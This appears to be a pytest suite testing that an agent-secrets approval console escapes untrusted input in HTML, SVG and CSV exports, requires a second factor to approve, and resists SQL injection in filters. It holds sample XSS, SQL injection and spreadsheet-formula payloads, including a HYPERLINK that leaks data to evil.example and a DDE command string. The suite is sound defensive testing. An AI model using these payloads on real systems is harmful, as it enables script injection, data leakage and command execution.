"""Attacks on the approver's console by an agent that writes what it shows: its client name, its
project directory and its reasons end up in tables, pictures, records and exports.

- Markup in a claimed client name or project directory stays text everywhere the console shows it,
  the server-drawn pictures included.
- A reason shaped like a spreadsheet formula cannot become one when the approver opens the CSV export.
- A signed-in console is no factor: deciding in place still needs a code or a passkey per request.
- Filters are data: a quote in a search or a project filter selects nothing extra.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from agent_vault.domain.request import Requester
from tests.web import helpers as web_helpers
from tests.web.helpers import Live, Visitor

pytestmark = pytest.mark.anyio
live, visitor = web_helpers.live, web_helpers.visitor  # fixtures

IMG = '"><img src=x onerror=alert(1)>'
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open the report")'


async def sign_in(live: Live, visitor: Visitor) -> None:
    token = await visitor.token("/signin")
    answer = await visitor.post("/signin", {"csrf": token, "code": live.clock.next_code()})
    assert answer.status_code == 303 and answer.headers["location"] == "/dashboard", answer.text


def claim_to_be(live: Live, client: str, project: str) -> None:
    live.session.requester = Requester(session_id=live.session.id, client_name=client, pid=1, project_dir=project)


async def read_twice(live: Live, visitor: Visitor, reason: str = "deploy the staging API") -> str:
    """Ask, approve with the passkey, then read again through the window it opened: two releases."""
    req = await live.ask(reason=reason)
    await live.approve_with_passkey(visitor, req.id)
    outcome = await live.server.broker.request_access(live.session, "dev", ["API_KEY"], "again")
    assert outcome.status == "delivered"
    return req.id


async def test_markup_in_a_claimed_client_or_project_stays_text_in_the_console(live: Live, visitor: Visitor) -> None:
    claim_to_be(live, f"evil {SCRIPT}", f"/home/dev/{IMG}")
    rid = await read_twice(live, visitor)
    await sign_in(live, visitor)
    pages = ["/dashboard", "/dashboard/audit", "/dashboard/secret?vault=dev&name=API_KEY", f"/dashboard/requests/{rid}"]
    for path in pages:
        page = (await visitor.get(path)).text
        assert "<script>alert" not in page and "<img src=x" not in page, path
    overview = (await visitor.get("/dashboard")).text
    # the pictures name the agent and the project too, escaped inside the SVG
    assert "<svg" in overview and "<text" in overview
    assert overview.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 2  # the audit table and the agents picture
    assert "&lt;img src=x onerror=alert(1)&gt;" in overview


async def test_a_reason_shaped_like_a_formula_is_text_in_the_csv_export(live: Live, visitor: Visitor) -> None:
    claim_to_be(live, "+cmd|' /C calc'!A0", "@SUM(1+1)")
    await read_twice(live, visitor, reason=FORMULA)
    await sign_in(live, visitor)
    export = await visitor.get("/dashboard/audit.csv")
    assert export.status_code == 200 and export.headers["content-disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    reasons = [r["reason"] for r in rows if r["reason"] not in ("", "again")]
    assert reasons and all(r == "'" + FORMULA for r in reasons)
    clients = {r["client"] for r in rows if r["client"]}
    assert clients == {"'+cmd|' /C calc'!A0"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row


async def test_a_signed_in_console_approves_nothing_without_a_factor(live: Live, visitor: Visitor) -> None:
    req = await live.ask()
    await sign_in(live, visitor)
    page = (await visitor.get("/dashboard")).text
    found = re.search(rf'id="approve-form-{req.id}">\s*<input type="hidden" name="csrf" value="([0-9a-f]+)"', page)
    assert found, "the console shows no in-place form for the request"
    token = found.group(1)
    for extra in ({}, {"code": ""}, {"assertion": ""}, {"code": "000000"}):
        answer = await visitor.post(
            f"/approve/{req.id}", {"csrf": token, "action": "approve", "back": "dashboard", **extra}
        )
        assert answer.status_code == 303 and answer.headers["location"] == "/dashboard#pending"
        live.assert_nothing_released(req.id)


@pytest.mark.parametrize("query", ["q=' OR 1=1 --", "project=x' OR '1'='1", "client=%25", "vault=dev' --"])
async def test_console_filters_are_data_not_sql(live: Live, visitor: Visitor, query: str) -> None:
    await read_twice(live, visitor)
    await sign_in(live, visitor)
    page = await visitor.get(f"/dashboard/audit?{query}")
    assert page.status_code == 200
    assert "No audit row matches." in page.text and 'data-row="' not in page.text
